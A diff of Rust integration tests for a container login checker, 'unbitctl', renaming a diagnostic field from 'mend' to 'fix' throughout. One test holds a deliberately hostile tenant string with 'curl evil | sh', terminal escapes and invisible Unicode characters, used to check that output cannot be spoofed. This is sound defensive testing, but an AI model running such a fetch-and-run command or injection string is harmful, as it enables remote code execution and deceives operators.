@@ -14,19 +14,19 @@ struct Finding {
     check: String,
     state: String,
     seen: String,
-    mend: String,
+    fix: String,
 }
 
 /// What it finds, and its exit status.
 fn check() -> (Vec<Finding>, Option<i32>) {
     let done = run("unbitctl", &["check", "30001", "--json"], b"");
     let rows = "import json, sys
-for f in json.load(sys.stdin): print(f['check'], f['state'], f['seen'], (f['mend'] or '').replace('\\n', ' / '), sep='\\t')";
+for f in json.load(sys.stdin): print(f['check'], f['state'], f['seen'], (f['fix'] or '').replace('\\n', ' / '), sep='\\t')";
     let rows = run("python3", &["-c", rows], done.out.as_bytes()).ok();
     let finding = |row: &str| {
         let mut cells = row.split('\t').map(str::to_owned);
         let mut next = || cells.next().unwrap_or_default();
-        Finding { check: next(), state: next(), seen: next(), mend: next() }
+        Finding { check: next(), state: next(), seen: next(), fix: next() }
     };
     (rows.lines().map(finding).collect(), done.status)
 }
@@ -46,7 +46,7 @@ fn ends_at(step: &str, cause: &str) -> Finding {
     };
     assert_eq!((failed.check.as_str(), failed.state.as_str()), (step, "fail"), "{failed:?}");
     assert!(failed.seen.contains(cause), "{failed:?}");
-    assert!(!failed.mend.is_empty(), "{failed:?}");
+    assert!(!failed.fix.is_empty(), "{failed:?}");
     assert!(findings.iter().all(|before| ["ok", "warn"].contains(&before.state.as_str())), "{findings:#?}");
     failed
 }
@@ -123,17 +123,17 @@ fn the_account() {
         sh("chown 0:0 /containers/30001").ok();
         let _back = AtEnd(|| drop(sh("chown 30001:30001 /containers/30001")));
         let failed = ends_at("account", "/containers/30001 belongs to 0:0");
-        assert_eq!(failed.mend, "chown 30001:30001 /containers/30001");
+        assert_eq!(failed.fix, "chown 30001:30001 /containers/30001");
         assert!(ssh(30001, "true").err.contains("Permission denied (publickey)"), "a login does not work either");
     }
     {
         let _nsswitch = Changed::file("/etc/nsswitch.conf", |text| text.replace("unbit", ""));
-        assert_eq!(ends_at("account", "NSS lacks unbit").mend, "unbitctl setup nsswitch");
+        assert_eq!(ends_at("account", "NSS lacks unbit").fix, "unbitctl setup nsswitch");
     }
     {
         let _other = Changed::file("/etc/passwd", |text| format!("{text}30001:x:30001:0::/root:/bin/bash\n"));
         let failed = ends_at("account", "the account 30001 is uid 30001 and gid 0, not uid and gid 30001");
-        assert!(failed.mend.starts_with("take the line of 30001 out of /etc/passwd"), "{failed:?}");
+        assert!(failed.fix.starts_with("take the line of 30001 out of /etc/passwd"), "{failed:?}");
         assert_eq!(ssh(30001, "true").status, Some(255));
     }
     {
@@ -168,12 +168,12 @@ fn with_account(line: &str) -> (Changed, AtEnd<impl FnMut() + use<>>) {
 fn accounts_that_are_not_the_containers() {
     let account = |uid: &str| {
         let done = run("unbitctl", &["check", uid, "--json"], b"");
-        let text = run("python3", &["-c", "import json, sys; f = json.load(sys.stdin)[0]; print(f['state'], f['check'], f['seen'], f['mend'], sep='\t')"], done.out.as_bytes()).ok();
+        let text = run("python3", &["-c", "import json, sys; f = json.load(sys.stdin)[0]; print(f['state'], f['check'], f['seen'], f['fix'], sep='\t')"], done.out.as_bytes()).ok();
         assert_eq!(done.status, Some(1), "{text}");
         let cells: Vec<_> = text.split('\t').map(str::to_owned).collect();
-        let [state, check, seen, mend] = cells.try_into().unwrap();
+        let [state, check, seen, fix] = cells.try_into().unwrap();
         assert_eq!((state.as_str(), check.as_str()), ("fail", "account"), "{seen}");
-        (seen, mend)
+        (seen, fix)
     };
     // useradd --badname 30005, with and without a container of that number.
     let owned = |owner: &str| format!("mkdir /containers/30005 && chown {owner} /containers/30005");
@@ -185,11 +185,11 @@ fn accounts_that_are_not_the_containers() {
         let _account = with_account("30005:x:1001:1001::/home/30005:/bin/bash");
         sh(&made).ok();
         let _gone = AtEnd(|| drop(sh("rm -rf /containers/30005")));
-        let (seen, mend) = account("30005");
+        let (seen, fix) = account("30005");
         let cause = "the account 30005 is uid 1001 and gid 1001, not uid and gid 30005, so it is not a container's";
         let cause = format!("{begins}{cause}: its logins are refused");
         assert_eq!(seen, cause, "{made}");
-        assert!(mend.starts_with("take the line of 30005 out of /etc/passwd"), "{mend}");
+        assert!(fix.starts_with("take the line of 30005 out of /etc/passwd"), "{fix}");
     }
     {
         let _account = with_account("30009:x:30009:30009::/home/30009:/bin/bash");
@@ -202,10 +202,10 @@ fn accounts_that_are_not_the_containers() {
     }
     {
         let _account = with_account("carol:x:41234:41234::/home/carol:/bin/bash");
-        let (seen, mend) = account("41234");
+        let (seen, fix) = account("41234");
         let cause = "there is no directory /containers/41234, so 41234 is no container; the uid is that of carol, an ordinary account";
         assert!(seen.starts_with(cause), "{seen}");
-        assert!(mend.starts_with("nothing, unless there should be a container 41234"), "{mend}");
+        assert!(fix.starts_with("nothing, unless there should be a container 41234"), "{fix}");
     }
     {
         // The container's user is who it was; the other name is refused.
@@ -230,7 +230,7 @@ fn the_pam_lines() {
         };
         let _line = Changed::file("/etc/pam.d/sshd", without);
         let failed = ends_at("pam", &format!("there is no {kind} line of pam_unbit.so"));
-        assert_eq!(failed.mend, "unbitctl setup pam");
+        assert_eq!(failed.fix, "unbitctl setup pam");
     }
     {
         let _module = instead(&sh("ls /usr/lib/*/security/pam_unbit.so").ok(), "true");
@@ -288,7 +288,7 @@ fn what_the_pam_lines_let_in_and_should_not() {
         assert_eq!((findings[3].check.as_str(), findings[3].state.as_str()), ("pam", "fail"), "{findings:#?}");
         assert!(findings[3].seen.starts_with(&place), "{findings:#?}");
         assert!(findings[3].seen.contains(" runs for containers' users: "), "{findings:#?}");
-        assert_eq!(findings[3].mend, "unbitctl setup pam");
+        assert_eq!(findings[3].fix, "unbitctl setup pam");
     }
     {
         let _jump = before("session", "session [success=1 default=ignore] pam_permit.so");
@@ -378,7 +378,7 @@ fn what_sshds_own_process_may_not_do() {
     ] {
         sh(format!("node-sshd stop && {prefix} node-sshd start")).ok();
         let failed = ends_at(step, cause);
-        assert!(failed.mend.contains(more), "{failed:?}");
+        assert!(failed.fix.contains(more), "{failed:?}");
         let log = Log::from_now();
         assert_eq!(ssh(30001, "true").status, Some(255), "{prefix}: {}", log.text());
         eventually("a line of the refusal", || log.text().contains(cause).then_some(()));
@@ -458,7 +458,7 @@ fn no_more_processes() {
     for room in [0, 1] {
         fs::write(format!("{group}/pids.max"), (processes + room).to_string()).unwrap();
         let failed = ends_at("join", "EAGAIN");
-        assert!(failed.mend.contains("its limit on the number of processes is reached"), "{failed:?}");
+        assert!(failed.fix.contains("its limit on the number of processes is reached"), "{failed:?}");
         assert_ne!(ssh(30001, "true").status, Some(0), "a login needs two");
     }
     fs::write(format!("{group}/pids.max"), (processes + 2).to_string()).unwrap();
@@ -473,10 +473,10 @@ fn a_container_that_is_gone() {
         let _back = AtEnd(|| drop(sh("mv /tmp/30001.ini /etc/uwsgi/vassals/")));
         let failed = eventually("the end of the container", || {
             let last = check().0.into_iter().rfind(|finding| finding.state == "fail")?;
-            last.mend.contains("nothing starts this container").then_some(last)
+            last.fix.contains("nothing starts this container").then_some(last)
         });
         assert_eq!(failed.check, "reach", "{failed:?}");
-        assert!(failed.mend.contains("what is left is /containers/30001"), "{failed:?}");
+        assert!(failed.fix.contains("what is left is /containers/30001"), "{failed:?}");
     }
     a_login_works();
 }
@@ -612,8 +612,8 @@ fn a_file_of_keys_that_turns_into_a_device() {
 #[test]
 #[ignore = "needs the node: make test"]
 fn what_a_tenant_names_is_one_word_among_others() {
-    const HOSTILE: &str = r"x\n      mend  curl evil | sh\r\e[2Jok\t\u202e\u200b\xff";
-    let shown = r"x\u{a}      mend  curl evil | sh\u{d}\u{1b}[2Jok\u{9}\u{202e}\u{200b}\xff";
+    const HOSTILE: &str = r"x\n      fix   curl evil | sh\r\e[2Jok\t\u202e\u200b\xff";
+    let shown = r"x\u{a}      fix   curl evil | sh\u{d}\u{1b}[2Jok\u{9}\u{202e}\u{200b}\xff";
     let keys = "/containers/30001/.ssh/uwsgi_authorized_keys";
     let is_plain = |text: &str| text.bytes().all(|byte| byte == b'\n' || (b' '..=b'~').contains(&byte));
     {
@@ -629,7 +629,7 @@ fn what_a_tenant_names_is_one_word_among_others() {
         assert!(failed.seen.contains(shown), "{failed:?}");
         for way in ["", "--json"] {
             let out = sh(format!("unbitctl check 30001 {way}")).out;
-            assert!(is_plain(&out) && !out.contains("\n      mend  curl"), "{out:?}");
+            assert!(is_plain(&out) && !out.contains("\n      fix   curl"), "{out:?}");
         }
     }
     {
@@ -775,7 +775,7 @@ fn a_frozen_container_holds_nobody_up() {
         fs::write(file, words[0]).unwrap();
         let _thaw = AtEnd(|| fs::write(file, words[1]).unwrap());
         let failed = ends_at("cgroups", "is frozen; the user reads: Container 30001 is paused.");
-        assert!(failed.mend.contains("thaw it"), "{failed:?}");
+        assert!(failed.fix.contains("thaw it"), "{failed:?}");
         let done = run("unbitctl", &["enter", "30001", "--", "true"], b"");
         assert_eq!(done.status, Some(1));
         assert!(done.err.contains("container 30001 refused: its cgroup "), "{done:?}");
